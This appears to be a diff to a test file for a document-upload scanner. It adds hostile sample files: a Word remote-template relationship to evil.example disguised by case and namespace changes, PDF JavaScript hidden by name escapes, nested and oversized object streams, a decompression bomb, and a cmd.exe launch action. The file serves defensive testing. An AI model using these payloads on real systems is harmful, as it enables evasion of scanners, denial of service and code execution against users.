@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import os
 import zipfile
 import zlib
 
@@ -35,6 +36,11 @@ def not_a(extension: str) -> str:
 RELATION = (
     '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
     'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+)
+
+OTHER_WORDS = (
+    '<r:Relationships xmlns:r="x"><r:Relationship Target="HTTPS://evil.example/?a>b" TargetMode="External" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></r:Relationships>'
 )
 
 HOSTILE = {
@@ -87,6 +93,9 @@ HOSTILE = {
     "macro doc": ("letter.doc", lambda: files.ole("WordDocument", "_VBA_PROJECT"), PROGRAMS),
     "macro xls": ("sheet.xls", lambda: files.ole("Workbook", "_VBA_PROJECT"), PROGRAMS),
     "template from the net": ("letter.docx", lambda: files.with_part("word/_rels/settings.xml.rels", RELATION), FETCHES),
+    "template from the net in other words": ("letter.docx", lambda: files.with_part("word/_rels/settings.xml.rels", OTHER_WORDS), FETCHES),
+    "a relation that never ends": ("letter.docx", lambda: files.with_part("word/_rels/a.xml.rels", "<Relationships>" + "".join(f"<Relationship {n} " for n in range(50_000))), DAMAGED),
+    "relations of five megabytes": ("letter.docx", lambda: files.with_part("word/_rels/a.xml.rels", os.urandom(5 * 1024 * 1024)), UNPACKED),
     # passwords
     "encrypted xlsx": ("sheet.xlsx", lambda: files.ole("EncryptionInfo", "EncryptedPackage"), PASSWORD),
     "encrypted entries": ("letter.docx", files.password_protected, PASSWORD),
@@ -95,6 +104,10 @@ HOSTILE = {
     "pdf with JavaScript": ("report.pdf", lambda: files.pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), ACTIVE),
     "pdf with JavaScript spelled otherwise": ("report.pdf", lambda: files.pdf(b"<< /S /J#61va#53cript /J#53 (x) >>"), ACTIVE),
     "pdf with JavaScript in a packed object": ("report.pdf", files.pdf_with_packed_script, ACTIVE),
+    "pdf with JavaScript in a packed object spelled otherwise": ("report.pdf", lambda: files.pdf_with_packed_script().replace(b"/ObjStm", b"/Obj#53tm"), ACTIVE),
+    "pdf with a hundred thousand packed objects": ("report.pdf", lambda: files.pdf(b"/ObjStm stream\n" * 100_000), UNPACKED),
+    "pdf whose packed objects hold each other": ("report.pdf", lambda: files.pdf(files.nested_objects(2000)), UNPACKED),
+    "pdf that grows": ("report.pdf", lambda: files.pdf(b"/ObjStm stream\n" + zlib.compress(bytes(80 * 1024 * 1024))), UNPACKED),
     "pdf that starts a program": ("report.pdf", lambda: files.pdf(b"<< /S /Launch /F (cmd.exe) >>"), ACTIVE),
     "pdf with an attached file": ("report.pdf", lambda: files.pdf(b"<< /Type /EmbeddedFile >>"), ACTIVE),
     "pdf with a list of attached files": ("report.pdf", lambda: files.pdf(b"<< /Names << /EmbeddedFiles 3 0 R >> >>"), ACTIVE),
